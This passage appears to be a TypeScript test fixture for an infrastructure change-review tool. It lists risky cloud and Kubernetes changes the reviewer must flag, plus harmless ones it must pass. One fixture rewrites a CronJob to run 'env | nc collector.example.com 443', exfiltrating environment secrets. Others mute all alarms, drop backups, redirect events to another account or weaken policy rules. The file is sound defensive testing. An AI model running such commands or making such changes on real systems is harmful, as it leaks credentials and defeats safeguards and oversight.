    "a disruption budget goes": { declares: drop(BUDGET, "chat-ui"), says: /^Refused/ },
    "an instance costs eight times as much": {
        edits: ["mcp:database.instanceClass=db.r6g.4xlarge"],
        says: /\$\d+ to \d+ more a month/,
    },
    // Tried after those, to break the review
    "a job runs another command": {
        declares: (resources) =>
            resources.map((resource) =>
                isOne("kubernetes:batch/v1:CronJob", "mcp-cache-cleanup")(resource)
                    ? (edited(resource, "inputs spec jobTemplate spec template spec containers 0 command", [
                          "sh",
                          "-c",
                          "env | nc collector.example.com 443",
                      ]) as RecordedResource)
                    : resource,
            ),
        says: /mcp-cache-cleanup \(.*another command/,
    },
    "a webhook sees every object of the cluster": {
        declares: add("kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "all", {}),
        says: /is of a type that the stack did not have/,
    },
    "a cluster lets somebody in by another way": {
        declares: add("aws:eks/accessEntry:AccessEntry", "somebody", { principalArn: ELSEWHERE }),
        says: /aws:eks\/accessEntry:AccessEntry somebody may now give access/,
    },
    "all alarms are muted": {
        declares: add("aws:cloudwatch/alarmMuteRule:AlarmMuteRule", "all", { name: "all" }),
        says: /AlarmMuteRule all: alarms are muted by it/,
    },
    "events go to another account": {
        declares: (resources) =>
            resources.map((resource) =>
                resource.type === "aws:cloudwatch/eventTarget:EventTarget"
                    ? (edited(
                          resource,
                          "inputs arn",
                          "arn:aws:sns:ap-south-1:999999999999:all",
                      ) as RecordedResource)
                    : resource,
            ),
        says: /EventTarget .*: arn .*999999999999:all/,
    },
    "a Service leads to other pods": {
        declares: set(SERVICE, "chat-ui", "inputs spec selector app", "admin-portal"),
        says: /clients of Service chat-ui may now reach pods with app=admin-portal/,
    },
    "a key is switched off": {
        declares: set(KEY, "mcp-production-database", "inputs isEnabled", false),
        says: /isEnabled .* => false/,
    },
    "the database keeps no automated backups": {
        declares: set(DATABASE, "mcp-production", "inputs backupRetentionPeriod", 0),
        says: /backupRetentionPeriod 35 => 0/,
    },
    "a workload is in a group of nodes' network": {
        declares: inPod("hostNetwork", true),
        says: /^Refused.*[^]*pods of chat-ui may now use the node \(hostNetwork\)/,
    },
    "the stakeholders of a release are others, and the gates of a workload look at nothing": {
        edits: ["mcp:workloads.chat-ui.smoke.requests[0].path=/assets/logo.svg"],
        says: /Safeguards:\n.*smoke\.requests\[0\]\.path/,
    },
    "a topic loses its subscriber": {
        declares: (resources) =>
            resources.filter(({ type, name }) => type !== SUBSCRIPTION || !name.includes("-p1-")),
        says: /TopicSubscription .*-p1-.* goes/,
    },
    // What decides how changes are judged
    "an exemption is added": {
        exceptions: [exception({})],
        files: ["policies/exceptions.yaml"],
        says: /exempts mcp-production of production from aws-rds-instance-require-multi-az until 2026-12-31/,
    },
    "an exemption is added for what the change violates": {
        edits: ["mcp:database.multiAz=false"],
        exceptions: [exception({})],
        files: ["policies/exceptions.yaml"],
        says: /^Refused: .*1 new finding/,
    },
    "a rule is made advisory, and violated": {
        declares: set(DATABASE, "mcp-production", "inputs storageEncrypted", false),
        rules: weaken((rule) => [{ ...rule, enforcement: "advisory" }]),
        files: ["policies/rules/aws-rds-instance-require-encryption.ts"],
        says: /^Refused: .*[^]*makes the rule aws-rds-instance-require-encryption advisory/,
    },
    "every mandatory rule is made advisory": {
        rules: (rules) => rules.map((rule) => ({ ...rule, enforcement: "advisory" })),
        says: /makes the rule kubernetes-pod-container-disallow-privileged advisory/,
    },
    "a rule finds nothing any more, and is violated": {
        declares: set(DATABASE, "mcp-production", "inputs storageEncrypted", false),
        rules: weaken((rule) => [{ ...rule, resource: () => undefined }]),
        says: /^Refused: .*1 new finding/,
    },
    "a rule goes": {
        rules: weaken(() => []),
        says: /takes the rule aws-rds-instance-require-encryption away/,
    },
    "a severity is lowered": {
        rules: weaken((rule) => [{ ...rule, severity: "low" }]),
        says: /lowers the severity of aws-rds-instance-require-encryption/,
    },
    "a workflow changes": {
        files: [".github/workflows/deploy.yml"],
        says: /changes workflows: \.github\/workflows\/deploy\.yml/,
    },
    "the tool that reviews changes": {
        files: ["cli/review/review.ts"],
        says: /changes tools that preview, review and test/,
    },
    "a test changes": { files: ["test/policies/rules.test.ts"], says: /changes tests that there were/ },
    "a package changes": { files: ["package-lock.json"], says: /changes packages/ },
    "a gate's program changes": { files: ["jobs/release.ts"], says: /changes programs of gates and jobs/ },
    "a component changes whose policies are unknown offline": {
        files: ["components/backup/databaseDumps.ts"],
        declares: set("aws:iam/rolePolicy:RolePolicy", "mcp-dumps", "inputs policy", UNKNOWN),
        says: /Not compared:\n.*policies that are known only after the update, while the program changes: .*mcp-dumps/,
    },
    // Changes of the program alone
    "the program does something that is no resource": {
        files: ["index.ts", "core/kubeconfig.ts"],
        says: /changes the program's code, and the recording shows no change: read core\/kubeconfig\.ts, index\.ts/,
    },
    "a procedure of the runbook changes": {
        files: ["runbook/procedures/health.ts"],
        says: /changes procedures that operators follow: runbook\/procedures\/health\.ts/,
    },
    "traffic no longer waits for the smoke gate": {
        declares: stopsWaiting(SERVICE, "mcp-server", /-smoke-/),
        says: /Safeguards:\n.*Service mcp-server no longer waits for Job mcp-server-blue-smoke\n/,
    },
    "pods no longer wait for the evidence of their release": {
        declares: stopsWaiting(DEPLOYMENT, "mcp-server-blue", /-evidence-/),
        says: /Deployment mcp-server no longer waits for Job mcp-server-blue-evidence\n/,
    },
    "a gate measures for a second, and lets every error through": {
        declares: plans("mcp-server-blue-soak-program", { durationSeconds: 1, maxErrorPercent: 100 }),
        says: /Safeguards:[^]*mcp-server-blue-soak-program: data\.plan\.json\.durationSeconds \d+ => 1\n[^]*maxErrorPercent 5 => 100/,
    },
    "a gate is weakened beside another value": {
        edits: ["mcp:workloads.chat-ui.scaling.min=3"],
        declares: plans("mcp-server-blue-soak-program", { allowNoData: true }),
        says: /mcp-server-blue-soak-program: data\.plan\.json\.allowNoData/,
    },
    "a bucket's policy is ignored from now on": {
        declares: set(BUCKET_POLICY, "mcp-production-audit", "options", { ignoreChanges: ["policy"] }),
        says: /Safeguards:[^]*mcp-production-audit: option ignoreChanges has policy/,
    },
    "a Deployment is deleted before each change": {
        declares: set(DEPLOYMENT, "chat-ui", "options", {
            replaceOnChanges: ["*"],
            deleteBeforeReplace: true,
        }),
        says: /Safeguards:[^]*chat-ui: option replaceOnChanges has \*[^]*chat-ui: option deleteBeforeReplace/,
    },
    "a rule of the network stays when it is taken back": {
        declares: set(NETWORK, "chat-ui", "options", { retainOnDelete: true }),
        says: /Safeguards:[^]*chat-ui: option retainOnDelete/,
    },
    "alarms may no longer encrypt what they notify": {
        declares: statements(KEY, "mcp-production-incidents", "policy", (all) =>
            all.filter(({ Principal }) => !JSON.stringify(Principal ?? "").includes("cloudwatch")),
        ),
        says: /Safeguards:[^]*Service cloudwatch\.amazonaws\.com may no longer kms:/,
    },
    "an autoscaler follows each moment": {
        declares: set(AUTOSCALER, "chat-ui", "inputs spec behavior", {
            scaleDown: { stabilizationWindowSeconds: 0 },
        }),
        says: /Safeguards:[^]*HorizontalPodAutoscaler chat-ui: spec\.behavior/,
    },
    "a namespace may use a hundred times as much": {
        declares: (resources) => {
            const { name } = resources.find(({ type }) => type === "kubernetes:core/v1:ResourceQuota")!;
            return set("kubernetes:core/v1:ResourceQuota", name, "inputs spec hard pods", "9999")(resources);
        },
        says: /Safeguards:[^]*ResourceQuota .*: spec\.hard\.pods/,
    },
    "an update no longer waits for a gate": {
        declares: (resources) => {
            const { name } = resources.find(({ name: each }) => /^mcp-server-blue-smoke-\w{8}$/.test(each))!;
            return set("kubernetes:batch/v1:Job", name, "inputs metadata annotations", {
                "pulumi.com/skipAwait": "true",
            })(resources);
        },
        says: /Safeguards:[^]*skipAwait/,
    },
    "a workload gets less memory": {
        edits: ["mcp:workloads.chat-ui.resources.memory.limit=130Mi"],
        says: /Safeguards:[^]*chat-ui: spec\.template\.spec\.containers\[.*\]\.resources\.limits\.memory/,
    },
    "the owners of files change": { files: [".github/CODEOWNERS"], says: /changes owners of files/ },
};

/** Changes that a review finds nothing against. */
export const HARMLESS: Record<string, ProjectChange> = {
    "nothing changes": {},
    "a release with its approval": { edits: approved("chat-ui", "v1.5.0") },
    "the idle colour gets an approved release": { edits: approved("mcp-server", "v2.2.0", "releases.green") },
    "the traffic is switched to an approved release": {
        before: approved("mcp-server", "v2.1.0", "releases.green"),
        edits: ["mcp:workloads.mcp-server.live=green"],
    },
    "more replicas": {
        edits: ["mcp:workloads.chat-ui.scaling.min=3", "mcp:workloads.chat-ui.scaling.max=8"],
    },
    "a graceful restart": { edits: ["mcp:workloads.mcp-server.restart=INC-2041"] },
    "another log level": { edits: ["mcp:workloads.mcp-server.config.LOG_LEVEL=debug"] },
    "more memory": { edits: ["mcp:workloads.chat-ui.resources.memory.limit=512Mi"] },
    "a tool is disabled": { edits: ["mcp:disabledTools[0]=affected_tool"] },
    "a longer grace period": { edits: ["mcp:workloads.chat-ui.gracePeriod=60s"] },
    "a tag more": { edits: ["mcp:aws.tags.team=platform"] },
    "a smaller instance": { edits: ["mcp:database.instanceClass=db.t4g.medium"] },
    "statements in another order": {
        declares: statements(ROLE_POLICY, "mcp-production-redis-backup", "policy", (all) =>
            [...all].reverse(),
        ),
    },
    "actions in another order": {
        declares: statements(ROLE_POLICY, "mcp-production-logs", "policy", (all) =>
            all.map((each) => ({ ...each, Action: [...(each["Action"] as string[])].reverse() })),
        ),
    },
    "a policy is formatted": {
        declares: (resources) =>
            resources.map((resource) =>
                isOne(ROLE_POLICY, "mcp-production-logs")(resource)
                    ? (edited(
                          resource,
                          "inputs policy",
                          JSON.stringify(JSON.parse(resource.inputs["policy"] as string), undefined, 4),
                      ) as RecordedResource)
                    : resource,
            ),
    },
    "a right less": {
        declares: statements(ROLE_POLICY, "mcp-production-escalation-incidents", "policy", (all) =>
            all.slice(1),
        ),
    },
    "a right is held by a condition": {
        declares: statements(ROLE_POLICY, "mcp-production-logs", "policy", (all) =>
            all.map((each) => ({ ...each, Condition: { Bool: { "aws:SecureTransport": "true" } } })),
        ),
    },
    "a policy denies more": {
        declares: statements(BUCKET_POLICY, "mcp-production-audit", "policy", (all) => [
            ...all,
            {
                Effect: "Deny",
                Principal: "*",
                Action: "s3:PutBucketPolicy",
                Resource: "arn:aws:s3:::msil-mcp-audit",
            },
        ]),
    },
    "a workload may connect to less": {
        declares: set(NETWORK, "admin-portal", "inputs spec egress 1 to 0 ipBlock except 4", "100.64.0.0/10"),
    },
    "a workload may be called on the same port in other words": {
        declares: set(NETWORK, "chat-ui", "inputs spec ingress 0 ports 0 endPort", 3000),
    },
    "a range is written as its halves": {
        declares: set(NETWORK, "mcp-cache-cleanup", "inputs spec egress 0 to", [
            { ipBlock: { cidr: "10.20.0.0/17" } },
            { ipBlock: { cidr: "10.20.128.0/17" } },
        ]),
    },
    "a rule of a Role less": { declares: set(`${RBAC}:Role`, "mcp-server-gate", "inputs rules 0") },
    "verbs of a Role in another order": {
        declares: set(`${RBAC}:Role`, "mcp-checklist", "inputs rules 0 verbs", ["patch", "get"]),
    },
    "a label more": { declares: set(DEPLOYMENT, "chat-ui", "inputs metadata labels team", "platform") },
    "an alarm more": {
        declares: (resources) => {
            const alarm = resources.find(isOne(ALARM, "mcp-production-escalation-failed"))!;
            return [
                ...resources,
                {
                    ...alarm,
                    urn: `${alarm.urn}-too`,
                    name: `${alarm.name}-too`,
                    inputs: { ...alarm.inputs, name: "too" },
                },
            ];
        },
    },
    "logs are kept longer": {
        declares: set(LOG_GROUP, "mcp-production-escalation", "inputs retentionInDays", 3653),
    },
    "an alarm says more": {
        declares: set(
            ALARM,
            "mcp-production-escalation-failed",
            "inputs alarmDescription",
            "What to do is in the runbook.",
        ),
    },
    "a bucket is protected": {
        before: [],
        declares: set("aws:kms/alias:Alias", "mcp-production-database", "options", { protect: true }),
    },
    "a cache is described": {
        declares: set(CACHE, "mcp-production-cache", "inputs description", "Redis of the platform"),
    },
    "an owner is named": {
        declares: set(CACHE, "mcp-production-cache", "inputs tags owner", "platform"),
    },
    "a topic is called otherwise": {
        declares: set("aws:sns/topic:Topic", "mcp-production-incidents-p1", "inputs displayName", "P1"),
    },
    "an event rule is described": {
        declares: set(
            "aws:cloudwatch/eventRule:EventRule",
            "mcp-production-escalation-incidents",
            "inputs description",
            "OpsItems",
        ),
    },
    "a key waits longer before it is deleted": {
        declares: set(KEY, "mcp-production-database", "inputs deletionWindowInDays", 30),
    },
    "the database may grow further": { edits: ["mcp:database.storage.max=2000"] },
    "more pods of the admin portal": { edits: ["mcp:workloads.admin-portal.scaling.max=6"] },
    "autoscaling begins sooner": { edits: ["mcp:workloads.chat-ui.scaling.cpu=60"] },
    "a variable more": { edits: ["mcp:workloads.chat-ui.config.THEME=dark"] },
    "more CPU": { edits: ["mcp:workloads.mcp-server.resources.cpu.request=750m"] },
    "the dashboard shows more": {
        declares: set(
            "aws:cloudwatch/dashboard:Dashboard",
            "mcp-production",
            "inputs dashboardBody",
            '{"widgets":[]}',
        ),
    },
    "a saved query is better": {
        declares: set(
            "aws:cloudwatch/queryDefinition:QueryDefinition",
            "mcp-production-server-errors",
            "inputs queryString",
            "fields @timestamp",
        ),
    },
    "a tag of a resource": {
        declares: set(ALARM, "mcp-production-database-connections", "inputs tags team", "a"),
    },
    "more pods at night": { declares: set(AUTOSCALER, "chat-ui", "inputs spec minReplicas", 4) },
    "documents change": { files: ["README.md", "docs/reviewing.md", "CHANGELOG.md"] },
    "a test is added": { files: ["+test/review/more.test.ts"] },
    "what tests compare with is written": { files: ["test/golden/production/outputs.yaml"] },
    "an autoscaler asks for more": { declares: set(AUTOSCALER, "chat-ui", "inputs spec maxReplicas", 9) },
};
